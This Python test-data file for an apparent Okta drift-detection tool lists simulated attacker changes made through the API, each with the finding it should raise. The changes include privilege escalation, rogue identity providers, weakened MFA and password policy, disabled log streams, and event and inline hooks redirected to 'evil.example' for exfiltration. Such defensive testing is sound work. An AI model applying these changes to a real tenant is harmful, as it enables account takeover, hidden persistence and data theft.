"""Attacks on a tenant as data: one change through the API each, and what drift detection must say about it."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from reconciler.kinds.risks import Severity
from tests.watched.org import URL, Org
from tests.watched.seeds import (
    APPS,
    GROUPS,
    IAM,
    IDPS,
    ORG_SUBSCRIPTIONS,
    POLICIES,
    SERVERS,
    SUBSCRIPTIONS,
    USERS,
    attribute,
    enrollment_policy,
    google,
    hook,
    inline_hook,
    of_type,
    routing,
    rule,
    service,
    stream,
    writable,
)

CRITICAL, HIGH, MEDIUM = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM
Change = Callable[[Org], object]


@dataclass(frozen=True)
class Attack:
    """A change by an attacker."""

    name: str
    word: str
    """The kind or word of the finding."""
    severity: Severity
    """The least severity."""
    change: Change


def post(path: str, body: Any = None) -> Change:
    return lambda org: org.post(path, body)


def put(path: str, body: Any = None) -> Change:
    return lambda org: org.send("PUT", path, body)


def patch(path: str, body: Any) -> Change:
    return lambda org: org.send("PATCH", path, body)


def delete(path: str) -> Change:
    return lambda org: org.send("DELETE", path)


def make(name: str, path: str, body: Any) -> Change:
    return lambda org: org.make(name, path, body)


def edit(path: str, **members: Any) -> Change:
    return lambda org: org.edit(path, **members)


def weaken(org: Org, policy: str) -> None:
    """Allow users to enrol less."""
    settings = org.get(f"{POLICIES}/{policy}")["settings"]
    for one in settings["authenticators"]:
        if one["key"] == "okta_verify":
            one["enroll"] = {"self": "NOT_ALLOWED"}
    org.edit(f"{POLICIES}/{policy}", settings=settings)


def push_passwords(org: Org) -> None:
    path = f"{APPS}/{{org2org}}/features/USER_PROVISIONING"
    org.send("PUT", path, {"update": {"password": {"status": "ENABLED", "seed": "OKTA", "change": "CHANGE"}}})


def delete_hook(org: Org) -> None:
    org.post("/api/v1/eventHooks/{other_event_hook}/lifecycle/deactivate")
    org.send("DELETE", "/api/v1/eventHooks/{other_event_hook}")


def exempt(org: Org) -> None:
    (zone,) = [one for one in org.get("/api/v1/zones") if one["name"] == "DefaultExemptIpZone"]
    org.edit(f"/api/v1/zones/{zone['id']}", gateways=[{"type": "CIDR", "value": "203.0.113.0/24"}])


ATTACKS = (
    # Administrators
    Attack(
        "a user becomes an administrator",
        "administrator",
        CRITICAL,
        post(f"{USERS}/{{eve}}/roles", {"type": "SUPER_ADMIN"}),
    ),
    Attack(
        "an administrator gets another role",
        "admin-role-of-user",
        CRITICAL,
        post(f"{USERS}/{{ada}}/roles", {"type": "SUPER_ADMIN"}),
    ),
    Attack(
        "an administrator loses a role", "admin-role-of-user", HIGH, delete(f"{USERS}/{{ada}}/roles/{{role_of_user}}")
    ),
    Attack(
        "a user joins a group of administrators",
        "member-of-group",
        CRITICAL,
        put(f"{GROUPS}/{{admins}}/users/{{mallory}}"),
    ),
    Attack(
        "an administrator is removed from the group",
        "member-of-group",
        MEDIUM,
        delete(f"{GROUPS}/{{admins}}/users/{{ada}}"),
    ),
    Attack(
        "a user joins a sensitive group",
        "member-of-group",
        CRITICAL,
        put(f"{GROUPS}/{{sensitive_group}}/users/{{mallory}}"),
    ),
    Attack(
        "a group gets another admin role",
        "admin-role-of-group",
        CRITICAL,
        post(f"{GROUPS}/{{admins}}/roles", {"type": "SUPER_ADMIN"}),
    ),
    Attack(
        "a group becomes a group of administrators",
        "admin-role-of-group",
        CRITICAL,
        post(f"{GROUPS}/{{staff}}/roles", {"type": "USER_ADMIN"}),
    ),
    Attack(
        "an imported group becomes a group of administrators",
        "app-group",
        CRITICAL,
        post(f"{GROUPS}/{{directory}}/roles", {"type": "SUPER_ADMIN"}),
    ),
    Attack(
        "a group loses its admin role",
        "admin-role-of-group",
        HIGH,
        delete(f"{GROUPS}/{{admins}}/roles/{{role_of_group}}"),
    ),
    Attack(
        "a service app becomes an administrator",
        "admin-role-of-app",
        CRITICAL,
        post("/oauth2/v1/clients/{service}/roles", {"type": "SUPER_ADMIN"}),
    ),
    Attack(
        "a custom role is created",
        "custom-admin-role",
        MEDIUM,
        make(
            "new_role", f"{IAM}/roles", {"label": "Helpers", "description": "d", "permissions": ["okta.users.manage"]}
        ),
    ),
    Attack("a custom role is deleted", "custom-admin-role", HIGH, delete(f"{IAM}/roles/{{other_role}}")),
    Attack(
        "a custom role gets a permission",
        "permission-of-admin-role",
        CRITICAL,
        post(f"{IAM}/roles/{{role}}/permissions/okta.users.manage"),
    ),
    Attack(
        "a resource set gets all groups",
        "resource-of-resource-set",
        CRITICAL,
        patch(f"{IAM}/resource-sets/{{set}}/resources", {"additions": [f"{URL}{GROUPS}"]}),
    ),
    Attack(
        "a resource set is created",
        "resource-set",
        MEDIUM,
        make("new_set", f"{IAM}/resource-sets", {"label": "More", "description": "d", "resources": [f"{URL}{APPS}"]}),
    ),
    Attack(
        "a role is bound to a resource set",
        "admin-role-binding",
        CRITICAL,
        lambda org: org.post(
            f"{IAM}/resource-sets/{{other_set}}/bindings",
            {"role": org.ids["role"], "members": [f"{URL}{USERS}/{org.ids['eve']}"]},
        ),
    ),
    Attack(
        "a group is added to a binding",
        "member-of-binding",
        CRITICAL,
        lambda org: org.send(
            "PATCH",
            f"{IAM}/resource-sets/{{set}}/bindings/{{role}}/members",
            {"additions": [f"{URL}{GROUPS}/{org.ids['staff']}"]},
        ),
    ),
    Attack(
        "an API token may be used from anywhere else",
        "api-token",
        HIGH,
        put("/api/v1/api-tokens/{token}", {"name": "renamed", "network": {"connection": "ANYWHERE"}}),
    ),
    Attack("Okta's support gets access", "support-access", HIGH, post("/api/v1/org/privacy/oktaSupport/grant")),
    # Identity providers
    Attack("a rogue identity provider", "identity-provider", CRITICAL, make("rogue", IDPS, google("Rogue"))),
    Attack(
        "an identity provider links any account",
        "identity-provider",
        HIGH,
        edit(f"{IDPS}/{{idp}}", policy__subject__matchType="EMAIL"),
    ),
    Attack(
        "an identity provider gets another client",
        "identity-provider",
        HIGH,
        edit(f"{IDPS}/{{idp}}", protocol__credentials__client__client_id="evil"),
    ),
    Attack(
        "an identity provider is switched off", "identity-provider", HIGH, post(f"{IDPS}/{{idp}}/lifecycle/deactivate")
    ),
    Attack(
        "a key for identity providers is added",
        "identity-provider-key",
        HIGH,
        lambda org: org.post(
            f"{IDPS}/credentials/keys", {"x5c": [org.post(f"{APPS}/{{service}}/credentials/keys/generate")["x5c"][0]]}
        ),
    ),
    Attack(
        "a key for identity providers is deleted",
        "identity-provider-key",
        HIGH,
        delete(f"{IDPS}/credentials/keys/{{kid}}"),
    ),
    Attack(
        "an identity provider fills another attribute",
        "profile-mapping",
        HIGH,
        post(
            "/api/v1/mappings/{mapping}", {"properties": {"nickName": {"expression": "'admin'", "pushStatus": "PUSH"}}}
        ),
    ),
    # Policies without a kind
    Attack(
        "sign-ins are routed to an identity provider",
        "routing-rule",
        HIGH,
        lambda org: org.make("new_routing", f"{POLICIES}/{{routing}}/rules", routing("All", org.ids["other_idp"])),
    ),
    Attack(
        "an enrolment policy is weakened",
        "authenticator-enrollment-policy",
        HIGH,
        lambda org: weaken(org, "{enrollment}"),
    ),
    Attack(
        "an enrolment policy is added",
        "authenticator-enrollment-policy",
        HIGH,
        lambda org: org.make("new_enrollment", POLICIES, enrollment_policy(org, "Nothing to enrol")),
    ),
    Attack(
        "an enrolment policy is switched off",
        "authenticator-enrollment-policy",
        HIGH,
        post(f"{POLICIES}/{{enrollment_policy}}/lifecycle/deactivate"),
    ),
    Attack(
        "an enrolment rule is added",
        "authenticator-enrollment-policy-rule",
        HIGH,
        make(
            "new_rule",
            f"{POLICIES}/{{enrollment_policy}}/rules",
            rule("Never") | {"actions": {"enroll": {"self": "NEVER"}}},
        ),
    ),
    Attack(
        "an enrolment rule asks never",
        "authenticator-enrollment-policy-rule",
        HIGH,
        edit(f"{POLICIES}/{{enrollment_policy}}/rules/{{enrollment_rule}}", actions__enroll__self="NEVER"),
    ),
    Attack(
        "an enrolment rule is deleted",
        "authenticator-enrollment-policy-rule",
        HIGH,
        delete(f"{POLICIES}/{{enrollment_policy}}/rules/{{second_rule}}"),
    ),
    Attack(
        "rules swap their priorities",
        "authenticator-enrollment-policy-rule",
        HIGH,
        edit(f"{POLICIES}/{{enrollment_policy}}/rules/{{third_rule}}", priority=1),
    ),
    Attack(
        "anybody can register",
        "profile-enrollment-policy-rule",
        HIGH,
        edit(
            f"{POLICIES}/{{profile}}/rules/{{profile_rule}}", actions__profileEnrollment__unknownUserAction="REGISTER"
        ),
    ),
    Attack(
        "a profile enrolment policy is added",
        "profile-enrollment-policy",
        HIGH,
        make("new_profile", POLICIES, {"type": "PROFILE_ENROLLMENT", "name": "Open"}),
    ),
    Attack(
        "an app moves to the open enrolment policy",
        "profile-enrollment-app",
        HIGH,
        lambda org: org.post(
            f"{POLICIES}/{{own_profile}}/mappings", {"resourceId": org.ids["service"], "resourceType": "APP"}
        ),
    ),
    Attack(
        "risky sessions are not ended",
        "post-auth-session-policy-rule",
        HIGH,
        lambda org: org.edit(
            f"{POLICIES}/{{POST_AUTH_SESSION}}/rules/{{POST_AUTH_SESSION_rule}}",
            actions__postAuthSession__failureActions=[],
        ),
    ),
    Attack(
        "sessions from other places are not detected",
        "session-violation-policy-rule",
        HIGH,
        lambda org: org.edit(
            f"{POLICIES}/{{SESSION_VIOLATION_DETECTION}}/rules/{{SESSION_VIOLATION_DETECTION_rule}}",
            conditions__riskScore__minRiskLevel="HIGH",
        ),
    ),
    Attack(
        "a rule for users at risk is added",
        "entity-risk-policy-rule",
        HIGH,
        lambda org: org.make(
            "risk_rule",
            f"{POLICIES}/{{risk}}/rules",
            {
                "name": "Nothing",
                "type": "ENTITY_RISK",
                "conditions": {"people": {"users": {"exclude": []}}, "riskScore": {"level": "ANY"}},
                "actions": {"entityRisk": {"actions": []}},
            },
        ),
    ),
    # Policies of kinds that Okta created
    Attack(
        "the default password policy is weakened",
        "password-policy",
        HIGH,
        lambda org: org.edit(f"{POLICIES}/{of_type(org, 'PASSWORD')}", settings__password__complexity__minLength=4),
    ),
    Attack(
        "an authentication policy is added",
        "authentication-policy",
        MEDIUM,
        make("new_access", POLICIES, {"type": "ACCESS_POLICY", "name": "Weak"}),
    ),
    # Authenticators
    Attack(
        "an authenticator is added",
        "authenticator",
        HIGH,
        make("new_authenticator", "/api/v1/authenticators", {"key": "google_otp", "name": "Codes"}),
    ),
    Attack(
        "an authenticator is switched off",
        "authenticator",
        HIGH,
        post("/api/v1/authenticators/{external}/lifecycle/deactivate"),
    ),
    Attack(
        "codes by e-mail are valid for longer",
        "authenticator",
        HIGH,
        edit("/api/v1/authenticators/{okta_email}", settings__tokenLifetimeInMinutes=60),
    ),
    Attack(
        "calls are allowed for sign-ins",
        "authenticator-method",
        HIGH,
        post("/api/v1/authenticators/{phone_number}/methods/voice/lifecycle/activate"),
    ),
    Attack(
        "push without number matching",
        "authenticator-method",
        HIGH,
        put(
            "/api/v1/authenticators/{okta_verify}/methods/push",
            {"settings": {"keyProtection": "ANY", "algorithms": ["RS256"]}},
        ),
    ),
    Attack(
        "a model of security keys is trusted",
        "custom-aaguid",
        HIGH,
        post(
            "/api/v1/authenticators/{webauthn}/aaguids",
            {"aaguid": "cb69481e-8ff7-4039-93ec-0a2729a154a8", "name": "Fake"},
        ),
    ),
    Attack(
        "a weak factor is switched on", "factor-type", HIGH, post("/api/v1/org/factors/okta_call/lifecycle/activate")
    ),
    # Signals and protections
    Attack(
        "a behavior is loosened", "behavior", HIGH, edit("/api/v1/behaviors/{behavior}", settings__velocityKph=100000)
    ),
    Attack("a behavior is switched off", "behavior", HIGH, post("/api/v1/behaviors/{behavior}/lifecycle/deactivate")),
    Attack("a behavior is deleted", "behavior", HIGH, delete("/api/v1/behaviors/{behavior}")),
    Attack(
        "jailbroken phones are accepted",
        "device-assurance",
        HIGH,
        edit("/api/v1/device-assurances/{assurance}", jailbreak=True),
    ),
    Attack("a device assurance is deleted", "device-assurance", HIGH, delete("/api/v1/device-assurances/{assurance}")),
    Attack(
        "ThreatInsight is switched off",
        "threat-insight",
        HIGH,
        post("/api/v1/threats/configuration", {"action": "none", "excludeZones": []}),
    ),
    Attack("the CAPTCHA is not used any more", "captcha-use", HIGH, delete("/api/v1/org/captcha")),
    Attack("the CAPTCHA is deleted", "captcha", HIGH, delete("/api/v1/captchas/{captcha}")),
    Attack(
        "rate limits are not enforced",
        "rate-limits-per-client",
        HIGH,
        put("/api/v1/rate-limit-settings/per-client", {"defaultMode": "DISABLE"}),
    ),
    # Apps
    Attack(
        "a service app may manage users",
        "api-scope-of-app",
        CRITICAL,
        post(f"{APPS}/{{service}}/grants", {"scopeId": "okta.users.manage", "issuer": URL}),
    ),
    Attack(
        "a service app may read groups",
        "api-scope-of-app",
        HIGH,
        post(f"{APPS}/{{service}}/grants", {"scopeId": "okta.groups.read", "issuer": URL}),
    ),
    Attack(
        "a service app without grants gets one",
        "api-scope-of-app",
        HIGH,
        post(f"{APPS}/{{quiet_service}}/grants", {"scopeId": "okta.logs.read", "issuer": URL}),
    ),
    Attack(
        "a service app gets another secret",
        "client-secret-of-app",
        HIGH,
        make("second", f"{APPS}/{{quiet_service}}/credentials/secrets", {}),
    ),
    Attack(
        "a secret is switched off",
        "client-secret-of-app",
        HIGH,
        post(f"{APPS}/{{service}}/credentials/secrets/{{secret}}/lifecycle/deactivate"),
    ),
    Attack(
        "a user is assigned to a sensitive app",
        "user-of-app",
        HIGH,
        lambda org: org.post(f"{APPS}/{{sensitive_app}}/users", {"id": org.ids["eve"], "scope": "USER"}),
    ),
    Attack(
        "provisioning goes elsewhere",
        "provisioning-connection",
        HIGH,
        post(
            f"{APPS}/{{org2org}}/connections/default?activate=true",
            {"profile": {"authScheme": "TOKEN", "token": "CANARY-t"}},
        ),
    ),
    Attack("passwords are pushed", "provisioning-feature", HIGH, lambda org: push_passwords(org)),
    Attack(
        "a group is pushed to an app",
        "push-group",
        HIGH,
        lambda org: org.make(
            "push",
            f"{APPS}/{{org2org}}/group-push/mappings",
            {"sourceGroupId": org.ids["pushed"], "targetGroupName": "Evil", "status": "INACTIVE"},
        ),
    ),
    Attack(
        "a server trusts another one",
        "trusted-server",
        HIGH,
        lambda org: org.post(f"{SERVERS}/{{server}}/associatedServers", {"trusted": [org.ids["other_server"]]}),
    ),
    Attack("a service app is added", "oidc-app", HIGH, make("new_service", APPS, service("Backup"))),
    # Profiles
    Attack(
        "a user type is added",
        "user-type",
        MEDIUM,
        make("new_type", "/api/v1/meta/types/user", {"name": "guest", "displayName": "Guest"}),
    ),
    Attack(
        "an attribute is added", "user-attribute", HIGH, post("/api/v1/meta/schemas/user/default", attribute("isAdmin"))
    ),
    Attack(
        "users may write an attribute",
        "user-attribute",
        HIGH,
        post(
            "/api/v1/meta/schemas/user/default",
            attribute("clearance", permissions=[{"principal": "SELF", "action": "READ_WRITE"}]),
        ),
    ),
    Attack(
        "an attribute of contractors is added",
        "attribute-of-user-type",
        HIGH,
        post("/api/v1/meta/schemas/user/{schema}", attribute("vip")),
    ),
    Attack(
        "users may write an attribute of all users",
        "user-base-attribute",
        HIGH,
        post("/api/v1/meta/schemas/user/default", writable("title")),
    ),
    Attack(
        "contractors may write an attribute of all users",
        "base-attribute-of-user-type",
        HIGH,
        post("/api/v1/meta/schemas/user/{schema}", writable("division")),
    ),
    Attack(
        "an attribute of groups is added",
        "group-attribute",
        HIGH,
        post("/api/v1/meta/schemas/group/default", attribute("level")),
    ),
    Attack(
        "a linked object is added",
        "linked-object",
        HIGH,
        post(
            "/api/v1/meta/schemas/user/linkedObjects",
            {
                "primary": {"name": "boss", "title": "Boss", "type": "USER"},
                "associated": {"name": "report", "title": "Report", "type": "USER"},
            },
        ),
    ),
    Attack("a realm is added", "realm", HIGH, make("new_realm", "/api/v1/realms", {"profile": {"name": "Shadow"}})),
    Attack(
        "users are assigned to another realm",
        "realm-assignment",
        HIGH,
        lambda org: org.post(
            "/api/v1/realm-assignments",
            {
                "name": "All",
                "conditions": {"profileSourceId": org.ids["org2org"], "expression": {"value": "true"}},
                "actions": {"assignUserToRealm": {"realmId": org.ids["realm"]}},
            },
        ),
    ),
    # Hooks and detection
    Attack("an event hook is added", "event-hook", HIGH, make("new_hook", "/api/v1/eventHooks", hook("Exfiltration"))),
    Attack(
        "an event hook is redirected",
        "event-hook",
        CRITICAL,
        edit("/api/v1/eventHooks/{event_hook}", channel__config__uri="https://evil.example"),
    ),
    Attack(
        "an event hook gets another header",
        "event-hook",
        CRITICAL,
        edit("/api/v1/eventHooks/{event_hook}", channel__config__headers=[{"key": "X-Team", "value": "CANARY-other"}]),
    ),
    Attack(
        "an event hook is switched off",
        "event-hook",
        CRITICAL,
        post("/api/v1/eventHooks/{event_hook}/lifecycle/deactivate"),
    ),
    Attack("an event hook is deleted", "event-hook", CRITICAL, lambda org: delete_hook(org)),
    Attack(
        "an inline hook is added",
        "inline-hook",
        CRITICAL,
        make("new_inline", "/api/v1/inlineHooks", inline_hook("Inject")),
    ),
    Attack(
        "an inline hook is redirected",
        "inline-hook",
        CRITICAL,
        edit("/api/v1/inlineHooks/{inline_hook}", channel__config__uri="https://evil.example"),
    ),
    Attack("a hook key is deleted", "hook-key", HIGH, delete("/api/v1/hook-keys/{hook_key}")),
    Attack(
        "a log stream is switched off", "log-stream", CRITICAL, post("/api/v1/logStreams/{stream}/lifecycle/deactivate")
    ),
    Attack("a log stream is renamed", "log-stream", CRITICAL, edit("/api/v1/logStreams/{stream}", name="Nothing")),
    Attack("a log stream is deleted", "log-stream", CRITICAL, delete("/api/v1/logStreams/{other_stream}")),
    Attack("a log stream is added", "log-stream", HIGH, make("new_stream", "/api/v1/logStreams", stream("Copy"))),
    Attack(
        "users are not notified",
        "security-notifications",
        HIGH,
        put("/api/internal/org/settings/security-notification-settings", {"reportSuspiciousActivityEnabled": False}),
    ),
    Attack(
        "administrators are not notified",
        "notifications-of-super-admin",
        HIGH,
        lambda org: org.post(f"{SUBSCRIPTIONS}/{org.get(SUBSCRIPTIONS)[0]['notificationType']}/unsubscribe"),
    ),
    Attack(
        "other administrators are not notified",
        "notifications-of-org-admin",
        HIGH,
        lambda org: org.post(f"{ORG_SUBSCRIPTIONS}/{org.get(ORG_SUBSCRIPTIONS)[0]['notificationType']}/unsubscribe"),
    ),
    Attack(
        "rate limits are reported late",
        "rate-limit-warning",
        HIGH,
        put("/api/v1/rate-limit-settings/warning-threshold", {"warningThreshold": 30}),
    ),
    Attack(
        "nobody is warned of rate limits",
        "rate-limit-notifications",
        HIGH,
        put("/api/v1/rate-limit-settings/admin-notifications", {"notificationsEnabled": False}),
    ),
    # Organization
    Attack(
        "another technical contact",
        "user-of-contact",
        MEDIUM,
        lambda org: org.send("PUT", "/api/v1/org/contacts/TECHNICAL", {"userId": org.ids["mallory"]}),
    ),
    Attack("a feature is switched on", "feature", MEDIUM, post("/api/v1/features/{feature}/enable")),
    Attack(
        "the support address changes",
        "organization",
        MEDIUM,
        post("/api/v1/org", {"endUserSupportHelpURL": "https://evil.example"}),
    ),
    # Kinds
    Attack(
        "an origin is trusted",
        "trusted-origin",
        HIGH,
        make(
            "origin",
            "/api/v1/trustedOrigins",
            {"name": "Evil", "origin": "https://evil.example", "scopes": [{"type": "CORS"}]},
        ),
    ),
    Attack("addresses are exempt from blocking", "network-zone", HIGH, lambda org: exempt(org)),
)
